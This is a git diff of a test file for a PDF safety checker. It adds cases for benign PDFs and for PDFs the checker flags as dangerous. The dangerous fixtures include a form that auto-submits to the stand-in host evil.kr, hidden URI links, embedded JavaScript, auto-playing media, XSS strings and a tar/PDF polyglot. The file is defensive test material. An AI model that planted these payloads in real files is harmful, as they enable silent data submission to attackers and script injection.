@@ -1,7 +1,7 @@
 import { randomBytes } from "node:crypto";
 import { deflateRawSync, deflateSync } from "node:zlib";
 import { expect, test } from "vitest";
-import { objectStream, pdf, storedStream, storedZip } from "#server/testing/papers.ts";
+import { objectStream, oldTar, pdf, storedStream, storedZip } from "#server/testing/papers.ts";
 import { checkPdf } from "./check-pdf.ts";
 
 const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
@@ -24,9 +24,17 @@ test.each([
   ],
   ["a picture of noise", withObjects(pictureStream(randomBytes(2_000_000)))],
   ["a picture that unfolds to far more than objects may", withObjects(pictureStream(Buffer.alloc(100_000_000)))],
+  ["comments as programs write them", withObjects(...Array.from({ length: 40 }, (_, at) => `% page ${at} of a paper`))],
+  ["a note that is an object by itself", withObjects("4 0 obj\n(Registration)\nendobj")],
+  ["bookmarks, and colours in numbers", withObjects(`4 0 obj\n[${"(a place) /B ".repeat(2000)} <00ff 7F>]\nendobj`)],
+  ["a signature", withObjects(`4 0 obj\n<< /Contents <${"30".repeat(30_000)}> /ByteRange [0 840 960 240] >>\nendobj`)],
+  ["a number as a calculator writes it", withObjects("4 0 obj\n[-.5 +3 1. 1e-05 NaN true false null 3 0 R]\nendobj")],
+  ["a paper that was made to come page by page", linearized()],
+  ["objects in a stream that nobody compressed", inStream("<< /Type /Font >>", { filter: "" })],
+  ["a stream that speaks of objects", withObjects(storedStream(Buffer.from("(an obj) Tj 1 0 0 1 0 0 cm objects")))],
   ["white space behind the end", Buffer.concat([pdf(), Buffer.from("\r\n\0\0\n")])],
-])("%s can be shown", async (_, file) => {
-  expect(await checkPdf(file)).toBeUndefined();
+])("%s can be shown", (_, file) => {
+  expect(checkPdf(file)).toBeUndefined();
 });
 
 test.each([
@@ -80,6 +88,34 @@ test.each([
   ["a file in the margin", withObjects("4 0 obj\n<< /Subtype /FileAttachment >>\nendobj")],
   ["a folder of files", pdf({ catalog: "/Collection << /View /T >>" })],
   ["a sound", withObjects("4 0 obj\n<< /S /Sound /Sound 5 0 R >>\nendobj")],
+  ["a link in such a stream, in other letters", inStream("<< /A << /S /#55RI >> >>", { filter: "" })],
+  ["a link in a stream whose filter has no name", inStream("<< /S /URI >>", { filter: "/F /FlateDecode" })],
+  ["objects packed twice", inStream("<< >>", { filter: "/Filter [/FlateDecode /FlateDecode]" })],
+  ["objects packed as another object says", inStream("<< >>", { filter: "/Filter 9 0 R" })],
+  ["an object in a stream's bytes", withObjects(storedStream(Buffer.from("7 0 obj << /S /URI >> endobj")))],
+  ["the same with strange numbers", withObjects(storedStream(Buffer.from("+7. -0.0obj<< /S /URI >> endobj")))],
+  ["the same behind a comment", withObjects(storedStream(Buffer.from("7%a\n0 % b\n obj<< /S /URI >> endobj")))],
+  [
+    "a link in a comment, where its place may lead",
+    withObjects("%7 0 obj << /S /URI /URI (https://evil.kr) >> endobj"),
+  ],
+  ["a link in a text, where its place may lead", withObjects("4 0 obj\n(7 0 obj << /S /URI >> endobj)\nendobj")],
+  ["a film that begins by itself", pdf({ catalog: "/OpenAction << /S /RichMediaExecute >>" })],
+  ["data in its first line", Buffer.concat([Buffer.from(`%PDF-1.7 ${"x".repeat(400)}`), pdf().subarray(8)])],
+  ["an archive of the oldest kind", Buffer.concat([oldTar("%PDF-1.7 a.sh"), pdf()])],
+  ["data in thousands of short comments", withObjects("%yy\n".repeat(4000))],
+  ["data in comments within an object", withObjects(`4 0 obj\n${"%yy\n".repeat(4000)}1\nendobj`)],
+  ["data in one comment within an object", withObjects(`4 0 obj\n%${"z".repeat(5000)}\n<< >>\nendobj`)],
+  ["data in comments before its last words", pdf({ trailer: "%yy\n".repeat(4000) })],
+  ["data in a text that is an object by itself", withObjects(`4 0 obj\n(${"z".repeat(2000)})\nendobj`)],
+  ["data in a long text", withObjects(`4 0 obj\n[1 (${"z".repeat(20_000)})]\nendobj`)],
+  ["data in many texts", withObjects(`4 0 obj\n[${`(${"z".repeat(1000)})`.repeat(1000)}]\nendobj`)],
+  ["data in a text of numbers", withObjects("4 0 obj\n[1 <not a number>]\nendobj")],
+  ["data in a long name", withObjects(`4 0 obj\n/${"z".repeat(400)}\nendobj`)],
+  ["words within an object", withObjects("4 0 obj\nthis is no pdf\nendobj")],
+  ["data in the table of places", Buffer.from(pdf().toString("latin1").replace("xref\n", "xref\nabc\n"), "latin1")],
+  ["a tag of a newer page", withObjects("%<details open ontoggle=alert(1)>")],
+  ["a link of a page", withObjects(storedStream(Buffer.from("<a href=javascript:alert(1)>x</a>")))],
   ["data between its objects", withObjects("something of somebody else's")],
   ["data in a long comment", withObjects(`%${"x".repeat(400)}`)],
   [
@@ -92,18 +128,35 @@ test.each([
   ["an archive hung behind it", Buffer.concat([pdf(), zip])],
   ["a page of html hung behind it", Buffer.concat([pdf(), Buffer.from("<script>alert(1)</script>")])],
   ["a form that sends itself", pdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://evil.kr) >>" })],
-])("%s makes it dangerous", async (_, file) => {
-  expect(await checkPdf(file)).toBe("file_dangerous");
+])("%s makes it dangerous", (_, file) => {
+  expect(checkPdf(file)).toBe("file_dangerous");
 });
+
+test.each(["/S /URI /URI (https://evil.kr)", "/AA << /O 5 0 R >>", "/EF << /F 5 0 R >>", "/AF [5 0 R]", "/S /Named"])(
+  "%s makes it dangerous in a stream of objects, compressed or not",
+  (words) => {
+    expect(checkPdf(inStream(`<< ${words} >>`, { filter: "" }))).toBe("file_dangerous");
+    expect(checkPdf(inStream(`<< ${words} >>`))).toBe("file_dangerous");
+  },
+);
 
 test.each([
   ["nothing behind its first bytes", Buffer.from("%PDF-1.7\n")],
   ["no end", pdf().subarray(0, -8)],
   ["something behind its end", Buffer.concat([pdf(), Buffer.from("more")])],
   ["something before its first bytes", Buffer.concat([Buffer.from("<html>"), pdf()])],
-])("%s makes it unreadable", async (_, file) => {
-  expect(await checkPdf(file)).toBe("file_not_readable");
+])("%s makes it unreadable", (_, file) => {
+  expect(checkPdf(file)).toBe("file_not_readable");
 });
+
+/** With the last page's table of places before the others. */
+function linearized(): Buffer {
+  const whole = pdf().toString("latin1");
+  const table =
+    "xref\r\n1 1\r\n0000000300 00000 n\r\ntrailer\r\n<</Size 4/Prev 400/Root 1 0 R>>\r\nstartxref\r\n0\r\n%%EOF\r\n";
+  const first = `4 0 obj\r<</Linearized 1/L 900/H [ 500 120]/O 3/E 700/N 1/T 800>>\rendobj\r${" ".repeat(100)}\r\n`;
+  return Buffer.from(whole.replace("1 0 obj", `${first}${table}1 0 obj`), "latin1");
+}
 
 function streamOf(packed: Buffer, lineEnd = "\n"): Buffer {
   const head = `6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream${lineEnd}`;
